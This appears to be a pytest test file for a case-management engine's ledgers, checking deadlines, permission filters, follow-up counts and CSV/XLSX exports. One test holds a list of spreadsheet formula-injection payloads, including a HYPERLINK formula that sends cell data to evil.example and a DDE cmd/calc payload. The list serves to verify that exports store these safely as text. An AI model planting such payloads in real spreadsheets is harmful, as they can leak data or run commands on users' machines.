"""Ledgers (台账): rows, deadlines met or missed, unit and month filters, .csv and .xlsx."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from engine.api import Engine
from engine.errors import InvalidData, PermissionDenied
from engine.queries.ledger import LEDGERS, Ledger
from engine.time.clock import FixedClock
from tests.process_helpers import PROCESSES
from tests.test_process_clue_triage import (
    FULIANG,
    LEPING,
    add_people,
    approve_disposal,
    at,
    do,
    process_files,
    register,
)


@pytest.fixture
def two_cases(engine: Engine, clock: FixedClock) -> Engine:
    engine.deploy(process_files())
    add_people(engine)
    engine.add_user("audit", ["auditor"])
    register(engine)                                      # 2026-09-30 16:00
    approve_disposal(engine, "转办", FULIANG)
    clock.set(at("2026-10-09T09:00:00+08:00"))            # transfer was due 10-08 17:30
    do(engine, "li", "transfer", {"transfer_note": "请优先核查"})
    register(engine, accused_unit="某市住建局")
    approve_disposal(engine, "转办", LEPING)
    return engine


def column(book_headers: list[str], rows: list[list[object]], header: str) -> list[object]:
    index = book_headers.index(header)
    return [row[index] for row in rows]


def test_clue_ledger_rows_and_deadlines(two_cases: Engine) -> None:
    book = two_cases.ledger("clue", user="audit")
    assert column(book.headers, book.rows, "编号") == ["ZF-2026-000001", "ZF-2026-000002"]
    assert column(book.headers, book.rows, "承办部门") == [FULIANG, LEPING]
    assert column(book.headers, book.rows, "呈批处置是否按期") == ["是", "是"]
    assert column(book.headers, book.rows, "转办到位期限")[0] == at("2026-10-08T17:30:00+08:00")
    assert column(book.headers, book.rows, "转办到位是否按期") == ["否（超期）", "办理中"]
    assert column(book.headers, book.rows, "状态") == ["办理中", "办理中"]
    # a form's date-time is a time like the ledger's own, in Beijing time; as text the same
    received = column(book.headers, book.text_rows(), "收到时间")
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", str(v)) for v in received)
    assert column(book.headers, book.text_rows(), "转办到位期限")[0] == "2026-10-08 17:30"


def test_monthly_ledger_of_one_unit(two_cases: Engine) -> None:
    fuliang = two_cases.ledger("clue", unit=FULIANG, month=date(2026, 9, 1))
    assert [row[0] for row in fuliang.rows] == ["ZF-2026-000001"]
    october = two_cases.ledger("clue", month=date(2026, 10, 1))
    assert [row[0] for row in october.rows] == ["ZF-2026-000002"]
    # a handler sees only the rows of the cases they may read, whatever they ask for: the
    # clue approved for 乐平 reaches its handler with the transfer, not yet done
    assert two_cases.ledger("clue", user="qian").rows == []
    assert two_cases.ledger("clue", user="qian", unit=FULIANG).rows == []
    with pytest.raises(PermissionDenied):
        two_cases.ledger("clue", user="li")


def test_a_unit_filter_names_a_unit_of_the_directory(two_cases: Engine) -> None:
    """Cases hold the directory's name of their unit; a clerk may filter by an alias of it, and a
    name the directory does not know is said, not answered by an empty ledger."""
    two_cases.import_units((PROCESSES / "units.csv").read_text(encoding="utf-8"))
    by_alias = two_cases.ledger("clue", unit="浮梁县纪委")
    assert [row[0] for row in by_alias.rows] == ["ZF-2026-000001"]
    with pytest.raises(InvalidData) as err:
        two_cases.ledger("clue", unit="浮梁县纪检委")
    assert set(err.value.field_errors) == {"unit"}
    assert "单位名录中没有“浮梁县纪检委”" in str(err.value.field_errors_in("zh")["unit"])


def test_exports_read_back(two_cases: Engine) -> None:
    book = two_cases.ledger("clue")
    sheet = load_workbook(io.BytesIO(book.to_xlsx())).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == book.headers
    assert [v if v is not None else "" for v in values[1]] == [
        v.replace(tzinfo=None) if isinstance(v, datetime) else v for v in book.rows[0]]
    text = book.to_csv().decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == book.headers
    assert parsed[1][0] == "ZF-2026-000001" and parsed[2][0] == "ZF-2026-000002"


# Formula injection: text a spreadsheet would take as a formula (OWASP "CSV injection").
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
HARMLESS: list[Any] = ["某县行政审批局", "a=b", "", -3, 2.5, 0]


def read_xlsx(data: bytes) -> list[list[Any]]:
    """The cells of the first sheet, failing on any formula."""
    sheet = load_workbook(io.BytesIO(data)).active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    return [[c.value for c in row] for row in sheet.iter_rows()]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_exports_never_hold_a_formula() -> None:
    values = [*HOSTILE, *HARMLESS]
    book = Ledger(LEDGERS["clue"], [f"列{i}" for i in range(len(values))], [values])

    cells = read_xlsx(book.to_xlsx())[1]
    assert cells[:len(HOSTILE)] == HOSTILE  # stored as text, exactly as given
    assert cells[len(HOSTILE):] == ["某县行政审批局", "a=b", None, -3, 2.5, 0]  # numbers stay
    sheet = load_workbook(io.BytesIO(book.to_xlsx())).active
    kinds = [(c.data_type, c.quotePrefix) for c in sheet[2]]
    assert kinds[:len(HOSTILE)] == [("s", True)] * len(HOSTILE)  # Excel keeps them text
    assert kinds[-3:] == [("n", False)] * 3  # -3, 2.5 and 0 stay numbers

    row = read_csv(book.to_csv())[1]
    assert row[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert row[len(HOSTILE):] == ["某县行政审批局", "a=b", "", "-3", "2.5", "0"]


def test_a_hostile_case_field_is_text_in_both_exports(two_cases: Engine) -> None:
    hostile = '=HYPERLINK("http://evil.example","查看")'
    register(two_cases, accused_unit=hostile)
    book = two_cases.ledger("clue")
    index = book.headers.index("被反映单位")
    assert [r[0] for r in read_xlsx(book.to_xlsx())[1:]] == [
        "ZF-2026-000001", "ZF-2026-000002", "ZF-2026-000003"]
    assert read_xlsx(book.to_xlsx())[3][index] == hostile
    assert read_csv(book.to_csv())[3][index] == "'" + hostile


def test_the_person_in_charge_is_shown_by_name_on_screen_and_in_exports(
        two_cases: Engine) -> None:
    two_cases.add_user("li", ["intake"], display_name="受理员 李明")
    book = two_cases.ledger("clue", user="audit")
    assert column(book.headers, book.rows, "责任人") == ["受理员 李明", "受理员 李明"]
    index = book.headers.index("责任人")
    assert read_csv(book.to_csv())[1][index] == "受理员 李明"
    assert read_xlsx(book.to_xlsx())[1][index] == "受理员 李明"


FOLLOWED = "承办部门已约谈被反映人，责令一周内补正告知清单并书面说明三次退回件的理由，逐件复核"


def follow_up(engine: Engine, clock: FixedClock, when: str, progress: str) -> None:
    """The weekly timer fires at ``when`` and the case manager records what was done."""
    clock.set(at(when))
    assert engine.timers.fire_due().fired == 1
    do(engine, "sun", "follow_up", {"progress": progress, "urged": True})


def test_the_clue_ledger_shows_the_last_follow_up_and_counts_them(
        two_cases: Engine, clock: FixedClock) -> None:
    """跟踪督办: the case management office follows up a transferred clue every week; the
    ledger shows the date and the gist of the last follow-up and how many there were, on
    screen and in both exports. The first clue was transferred on 10-09 09:00."""
    follow_up(two_cases, clock, "2026-10-16T09:00:30+08:00", "已电话督促承办部门")
    follow_up(two_cases, clock, "2026-10-23T09:00:30+08:00", FOLLOWED)
    book = two_cases.ledger("clue", user="audit")
    assert book.headers[-2:] == ["最近跟踪督办", "督办次数"]
    gist = "2026-10-23 " + FOLLOWED[:39] + "…"  # the gist: a cell, not the whole text
    assert column(book.headers, book.rows, "最近跟踪督办") == [gist, ""]
    assert column(book.headers, book.rows, "督办次数") == [2, 0]
    assert read_csv(book.to_csv())[1][-2:] == [gist, "2"]
    assert read_csv(book.to_csv())[2][-2:] == ["", "0"]
    cells = read_xlsx(book.to_xlsx())
    assert cells[0][-2:] == ["最近跟踪督办", "督办次数"]
    assert cells[1][-2:] == [gist, 2]
    # a follow-up left open (the next week's) is not counted until it is done
    clock.set(at("2026-10-30T09:00:30+08:00"))
    assert two_cases.timers.fire_due().fired == 1
    assert column(two_cases.ledger("clue").headers, two_cases.ledger("clue").rows,
                  "督办次数") == [2, 0]


def test_the_intermediary_clue_ledger_is_the_working_groups_rectification_list(
        engine: Engine, clock: FixedClock) -> None:
    """方案 二2–3: the 专班 keeps a 台账 of the 中介 clues with each rectification's task,
    deadline, leader and person in charge, and its deadlines met or missed; a responsible
    unit sees its own rows; a 纪委 clerk may not read it."""
    from tests.process_helpers import load_units, task
    from tests.test_process_intermediary_clue import ACCEPT, PLAN, REPORT, clue_files

    engine.deploy(clue_files())
    load_units(engine)
    engine.add_user("qiye", ["enterprise"])
    engine.add_user("zhuanban", ["data_bureau"])
    engine.add_user("fl", ["responsible_unit"], unit="浮梁县")
    engine.add_user("zjj", ["responsible_unit"], unit="市住建局")
    engine.add_user("slr", ["intake"], unit=FULIANG)
    engine.start("intermediary_clue", REPORT, "qiye")
    engine.complete(task(engine, "zhuanban", "classify").id, ACCEPT, "zhuanban")
    clock.set(at("2026-10-14T10:00:00+08:00"))  # 5 working days to plan: due 10-13
    engine.complete(task(engine, "fl", "plan").id, PLAN, "fl")

    book = engine.ledger("intermediary", user="zhuanban")
    assert column(book.headers, book.rows, "编号") == ["ZJXS-2026-000001"]
    assert column(book.headers, book.rows, "责任单位") == ["浮梁县"]
    assert column(book.headers, book.rows, "整改任务") == [PLAN["rectify_task"]]
    assert column(book.headers, book.rows, "责任领导") == [PLAN["responsible_leader"]]
    assert column(book.headers, book.rows, "分类转办是否按期") == ["是"]
    assert column(book.headers, book.rows, "制定整改措施是否按期") == ["否（超期）"]
    assert column(book.headers, book.rows, "落实整改是否按期") == ["办理中"]
    assert len(engine.ledger("intermediary", user="fl").rows) == 1
    assert engine.ledger("intermediary", user="zjj").rows == []
    assert engine.ledger("intermediary", user="slr").rows == []
